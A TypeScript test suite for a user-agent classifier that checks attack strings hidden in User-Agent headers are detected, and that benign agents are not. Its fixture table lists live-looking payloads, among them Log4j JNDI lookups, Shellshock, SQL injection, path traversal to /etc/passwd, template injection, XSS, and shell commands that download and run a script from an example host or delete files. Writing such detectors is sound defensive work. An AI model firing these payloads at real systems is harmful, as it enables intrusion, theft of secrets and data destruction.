import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { checkRows } from '@app/testing';
import { classify, explain } from '../classify.js';

const CHROME =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';

function who(userAgent: string): string {
  const verdict = classify(userAgent);
  return verdict.kind === 'human' ? 'human' : verdict.bot.name;
}

/** Attack texts by the sign that finds them. Addresses and hosts are those kept for examples. */
const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  'a lookup of Log4j': [
    '${jndi:ldap://192.0.2.1:1389/a}',
    '${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://x.example/a}',
    '${${lower:j}ndi:ldap://x.example}',
    '%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D',
    '%2524%257Bjndi%253Aldap%253A%252F%252Fx.example%257D',
    '${env:AWS_SECRET_ACCESS_KEY}',
    `${CHROME} \${jndi:dns://x.example/a}`,
  ],
  'a function of Bash in place of a value (Shellshock)': [
    '() { :; }; echo; /bin/bash -c "id"',
    '() { _; } >_[$($())] { echo hi; }',
    '(){ ignored;};/usr/bin/id',
  ],
  SQL: [
    "Mozilla/5.0' AND 1=1 UNION ALL SELECT NULL-- -",
    "1' OR '1'='1",
    '-1 OR 3+1-1-1=1 --',
    '1 AND 1=2',
    "(select(0)from(select(sleep(15)))v)/*'+(select(0)from(select(sleep(15)))v)+'",
    "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
    "1 waitfor delay '0:0:15' --",
    "'; DROP TABLE users; --",
    "'||DBMS_PIPE.RECEIVE_MESSAGE(CHR(98)||CHR(98),15)||'",
    '1/**/UNION/**/SELECT/**/1,2',
    "admin' --",
    '" or ""="',
    '@@version',
    '1 ORDER BY 10--',
  ],
  'a path out of the folder of the website, or to a file of the system': [
    '../../../../etc/passwd',
    String.raw`..\..\..\windows\win.ini`,
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '....//....//etc/passwd',
    '/proc/self/environ',
    'php://filter/convert.base64-encode/resource=index.php',
    '/..;/manager/html',
  ],
  'an expression of a template language': [
    '{{7*7}}',
    '${7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    "{{''.__class__.__mro__[1]}}",
    '{{config.items()}}',
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    '${T(java.lang.Runtime).getRuntime()}',
    '{% debug %}',
  ],
  'a script, or a tag that runs one': [
    '<script>alert(1)</script>',
    '"><svg/onload=alert(1)>',
    '<img src=x onerror=alert(1)>',
    'javascript:alert(document.cookie)',
    "<?php system('id'); ?>",
    '<!--#exec cmd="ls"-->',
    'print(md5(31337));',
    String.raw`\x3cscript\x3ealert(1)`,
  ],
  'a command of a shell': [
    '|id',
    '`id`',
    '$(curl http://192.0.2.1/x.sh)',
    '; wget http://192.0.2.1/x -O /tmp/x; sh /tmp/x',
    '&& ping -c 4 192.0.2.1',
    'cmd.exe /c whoami',
    'powershell -enc AAAA',
    'cd /tmp; rm -rf *',
  ],
  'a serialised object, or a filter of a directory': [
    '}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc"}',
    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA',
    '*)(uid=*))(|(uid=*',
  ],
  'a header field, smuggled behind the end of a line': [
    'Mozilla/5.0%0d%0aSet-Cookie: a=b',
    String.raw`Mozilla/5.0\r\nX-Injected: 1`,
  ],
  'a server that only waits for the calls of successful attacks': ['http://abc.bxss.me/t/a.html'],
};

describe('attack text', () => {
  it('is found by its grammar, also when it is encoded or stands in a browser', () =>
    checkRows(
      Object.entries(ATTACKS).flatMap(([reason, texts]) => texts.map((text) => ({ reason, text }))),
      ({ reason, text }) =>
        expect(classify(text)).toMatchObject({
          kind: 'bot',
          bot: { id: 5, slug: 'attack-text', name: 'Attack text', category: 'security_scanner' },
          layer: 'attack text',
          reason,
        }),
      ({ text }) => text,
    ));

  it('is judged before the names of bots, except those of security scanners', () => {
    expect(who('Googlebot/2.1 ${jndi:ldap://192.0.2.1/a}')).toBe('Attack text');
    expect(who("sqlmap/1.5.2#stable (http://sqlmap.org) ' OR 1=1")).toBe('sqlmap');
    expect(explain('${jndi:ldap://192.0.2.1/a}').steps).toEqual([
      { layer: 'empty agent', reason: null },
      { layer: 'attack text', reason: 'a lookup of Log4j' },
    ]);
  });

  it.each([
    'Opera/9.80 (J2ME/MIDP; Opera Mini/4.2.13918/28.2725; U; id) Presto/2.8.119 Version/11.10',
    'Select Player 2.0 (Android 9)',
    'Sleep (2; Android 12)',
    'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; {D1A2B3C4-1111-2222-3333-444455556666})',
    "Foo (Bar's Browser; Windows 10)",
    `${CHROME} PHP;`,
    'MyBot/${VERSION}',
    '{{user_agent}}',
    'Order by 3 clicks',
    '<a href="http://spam.example">x</a>',
    'curl/8.0',
    'Wget/1.21',
    `${CHROME} | sh-MY`,
  ])('is not what looks like a part of it: %s', (userAgent) =>
    expect(who(userAgent)).not.toBe('Attack text'),
  );

  const folder = process.env.BOTGAUGE_TEST_DATA;
  const labelled = folder === undefined ? it.skip : it;
  const skipped = folder === undefined ? ' (skipped: BOTGAUGE_TEST_DATA names no folder)' : '';
  labelled(`is no user agent of people${skipped}`, () => {
    const file = readFileSync(join(folder ?? '', 'ua', 'tuning-humans.ndjson'), 'utf8');
    const people = file
      .split('\n')
      .filter(Boolean)
      .map((line) => (JSON.parse(line) as { ua: string }).ua);
    // One sample of the collection is Internet Explorer with `' or 8056=8057-- ` behind it.
    const attacks = people.filter((userAgent) => who(userAgent) === 'Attack text');
    expect(attacks.filter((userAgent) => !userAgent.includes('%20or%208056%3d8057--'))).toEqual([]);
  });
});
